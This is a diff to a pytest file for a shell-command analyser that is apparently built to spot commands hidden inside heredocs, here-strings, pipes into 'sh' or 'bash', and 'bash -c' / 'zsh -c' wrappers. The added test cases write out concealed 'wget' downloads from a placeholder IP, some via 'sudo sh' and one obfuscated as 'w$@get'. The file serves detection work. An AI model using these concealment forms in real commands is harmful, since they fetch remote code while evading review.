@@ -57,7 +57,7 @@ def texts(line: str, kind: str) -> list[str]:
         ("echo 'open\nwget x", ["echo", "wget"]),
         ('echo "open\nwget x', ["echo", "wget"]),
         ("cat <<E\nwget x\nE\nid", ["cat", "id"]),
-        ("cat <<'E' | sh\nwget x\nE", ["cat", "sh"]),
+        ("cat <<'E' | sh\nwget x\nE", ["cat", "sh", "wget"]),
         ("cat <<-E\n\twget x\n\tE\nid", ["cat", "id"]),
         ("cat <<E\nwget x", ["cat"]),
     ],
@@ -183,6 +183,36 @@ def test_what_is_no_decodable_literal_stays(line):
 )
 def test_launchers_and_commands_without_a_space_are_looked_through(line):
     assert "wget http://203.0.113.9/x" in texts(line, "command")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "bash <<EOF\nwget http://203.0.113.9/x\nEOF",
+        "bash -s <<'E'\ncd /tmp\nwget http://203.0.113.9/x\nE\nid",
+        "bash <<< 'wget http://203.0.113.9/x'",
+        "echo 'cd /tmp; wget http://203.0.113.9/x' | sudo sh -s",
+        "printf 'wget http://203.0.113.9/x' | /bin/bash",
+        "zsh -c 'wget http://203.0.113.9/x'",
+        "w$@get http://203.0.113.9/x",
+    ],
+)
+def test_what_a_shell_is_given_to_read_is_looked_at(line):
+    assert "wget http://203.0.113.9/x" in [v.text for v in views(line).views]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cat > f <<E\nwget x\nE",
+        "cat <<< 'wget x'",
+        "echo 'wget x' | cat",
+        "echo 'wget x' | shuf",
+        "bash -c 'echo $@'",
+    ],
+)
+def test_what_others_are_given_to_read_is_text(line):
+    assert "wget" not in [v.argv0 for v in views(line).views]
 
 
 def test_asking_where_a_program_is_runs_nothing():
